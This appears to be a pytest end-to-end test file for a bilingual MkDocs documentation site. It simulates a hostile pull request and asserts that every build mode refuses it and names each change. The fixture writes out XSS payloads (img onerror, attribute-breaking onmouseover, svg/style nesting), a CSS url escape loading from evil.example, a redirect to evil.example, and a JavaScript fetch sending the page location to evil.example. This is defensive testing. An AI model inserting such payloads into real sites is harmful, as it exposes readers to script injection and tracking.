"""End to end: one hostile pull request with every class of change the issue lists fails in every mode.

`mkdocs build -q` (no --strict), `mkdocs build --strict -q`, `mkdocs serve` and `make build` all
refuse it, each check names the file; nothing of the refused build is left to publish. These run
the real commands (the CLI's own handling of -q, --strict and serve is what is tested), on the tiny
project (tests/fixtures/tiny/ with the real mkdocs.yml's settings and checks), so each takes seconds.
"""

from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from building import BUILDER, FIXTURE, ROOT, SITE_URL, append, fixture_project, replace_in
from edition.model.edition import load_edition
from edition.model.sentences import english_sentences


def a_sentence_to_delete(project: Path) -> tuple[str, str, str]:
    """(page file, block id, sentence): a sentence without figures inside a paragraph of several."""
    edition = load_edition(project, project / "docs", ["zh", "en"])
    for page in edition.files:
        for block in page.blocks if page.lang == "en" else []:
            sentences = english_sentences(block.text)
            for sentence in sentences[1:]:
                if len(sentences) > 1 and not re.search(r"\d", sentence) and " " + sentence in page.text:
                    return page.rel, block.id, sentence
    raise AssertionError("no sentence to delete")


pytestmark = pytest.mark.heavy  # commands in processes of their own

SENTENCE_PAGE, SENTENCE_BLOCK, SENTENCE = a_sentence_to_delete(FIXTURE)


def hostile_pull_request(project: Path) -> None:
    """Every class of the issue at once, each in its own file."""
    docs = project / "docs"
    # front matter that Material acts on
    replace_in(
        docs / "about.en.md",
        "title: About this edition\n",
        "title: About this edition\ntemplate: redirect.html\nlocation: https://evil.example/\n",
    )
    replace_in(
        docs / "overview.en.md",
        "---\nkind: source\ndocument: press-release-2017-09-28\ntitle:",
        "---\nkind: source\ndocument: press-release-2017-09-28\nstatus: 'new\" onmouseover=\"alert(1)'\ntitle:",
    )
    # parser differentials and CSS the regexes missed
    append(docs / "about.zh.md", "\n<!--><img src=x onerror=alert(1)>-->\n")
    append(docs / "about.en.md", "\n<svg><style><img src=x onerror=alert(1)></style></svg>\n")
    append(docs / "assets" / "stylesheets" / "edition.css", "\na { background: url(https\\3a //evil.example/x.png) }\n")
    # a site script that phones home
    append(docs / "assets" / "javascripts" / "tables.js", '\nfetch("https://evil.example/?u=" + location);\n')
    # settings that reach every page
    config = project / "mkdocs.yml"
    replace_in(config, "copyright: 原文", 'copyright: <a href="https://evil.example/">x</a>原文')
    replace_in(
        config,
        "  font: false # no Google Fonts: system fonts only (readers in mainland China)",
        "  font:\n    text: Roboto",
    )
    replace_in(
        config,
        "extra:\n  generator: false",
        "extra:\n  analytics:\n    provider: google\n    property: G-1\n  generator: false",
    )
    # unchecked words
    replace_in(docs / "overview.en.md", "description: ", "description: 894 offices. ")
    replace_in(project / SENTENCE_PAGE, " " + SENTENCE, "")
    replace_in(docs / "overview.en.md", "{#ov-1}\n", "{#ov-1}\n\nThe reform was praised by every resident.\n")
    replace_in(docs / "overview.zh.md", "党中央部署要求", "党中央〔王某〕部署要求")


COPYRIGHT_LINE = next(
    n
    for n, line in enumerate((ROOT / "mkdocs.yml").read_text(encoding="utf-8").splitlines(), 1)
    if line.startswith("copyright:")
)
EXPECTED = [
    "[front-matter] docs/about.en.md:4: front matter key 'template' is not allowed",
    "[front-matter] docs/about.en.md:5: front matter key 'location' is not allowed",
    "[front-matter] docs/overview.en.md:4: front matter key 'status' is not allowed",
    "[content-safety] docs/about.zh.md:",
    "<img> has the inline event handler onerror=",
    "[content-safety] docs/assets/stylesheets/edition.css:",
    "loads 'https://evil.example/x.png'",
    "[content-safety] docs/assets/javascripts/tables.js:",
    f"[settings] mkdocs.yml:{COPYRIGHT_LINE}: copyright: contains markup",
    "[settings] mkdocs.yml:",
    "theme.font: '{'text': 'Roboto'}' makes every page load fonts from Google Fonts",
    "extra.analytics: is not allowed",
    "[numbers] docs/overview.en.md:6: the description has the figure 894",
    f"[alignment] {SENTENCE_PAGE}:",
    f"paragraph '#{SENTENCE_BLOCK}' has",
    "[block-ids] docs/overview.en.md:",
    "[corrections] docs/overview.zh.md:",
    "'〔王某〕'",
]


@pytest.fixture(scope="module")
def hostile_copy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = fixture_project(tmp_path_factory.mktemp("hostile") / "project")
    for part in ["Makefile", "requirements.txt"]:  # for `make build`
        shutil.copy2(ROOT / part, project / part)
    hostile_pull_request(project)
    return project


def mkdocs(project: Path, *args: str, timeout: int = 300) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "SITE_URL": SITE_URL, "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run(
        [sys.executable, "-m", BUILDER, *args], cwd=project, env=env, capture_output=True, text=True, timeout=timeout
    )


def test_a_quiet_build_without_strict_fails_naming_every_change_and_leaves_nothing(hostile_copy):
    site = hostile_copy / "site"
    site.mkdir(exist_ok=True)
    (site / "index.html").write_text("an earlier build", encoding="utf-8")  # the last good build, say
    result = mkdocs(hostile_copy, "build", "-q", "--site-dir", str(site))
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    for phrase in EXPECTED:
        assert phrase in output, f"{phrase!r} not in:\n{output}"
    assert "The edition's checks refused this build" in output
    assert not site.exists() or list(site.iterdir()) == [], "a refused build left files to publish"


def test_a_strict_quiet_build_fails(hostile_copy):
    result = mkdocs(hostile_copy, "build", "--strict", "-q", "--site-dir", str(hostile_copy / "site-strict"))
    assert result.returncode != 0
    assert "[settings] mkdocs.yml:" in result.stdout + result.stderr


def test_serve_reports_it_and_stops(hostile_copy):
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    result = mkdocs(hostile_copy, "serve", "--no-livereload", "--dev-addr", f"127.0.0.1:{port}")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "[corrections] docs/overview.zh.md:" in output and "The edition's checks refused this build" in output


@pytest.mark.skipif(shutil.which("make") is None, reason="make not installed")
def test_make_build_leaves_no_site(hostile_copy):
    site = hostile_copy / "site"
    site.mkdir(exist_ok=True)
    (site / "index.html").write_text("an earlier build", encoding="utf-8")
    venv = Path(sys.executable).parent.parent
    result = subprocess.run(
        ["make", "-o", f"{venv}/.site-deps", "-o", f"{venv}/.pdf-deps", "build", f"VENV={venv}"],
        cwd=hostile_copy,
        env={**os.environ, "NO_MKDOCS_2_WARNING": "1"},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode != 0, result.stdout + result.stderr
    assert not site.exists() and not (hostile_copy / "site.new").exists()
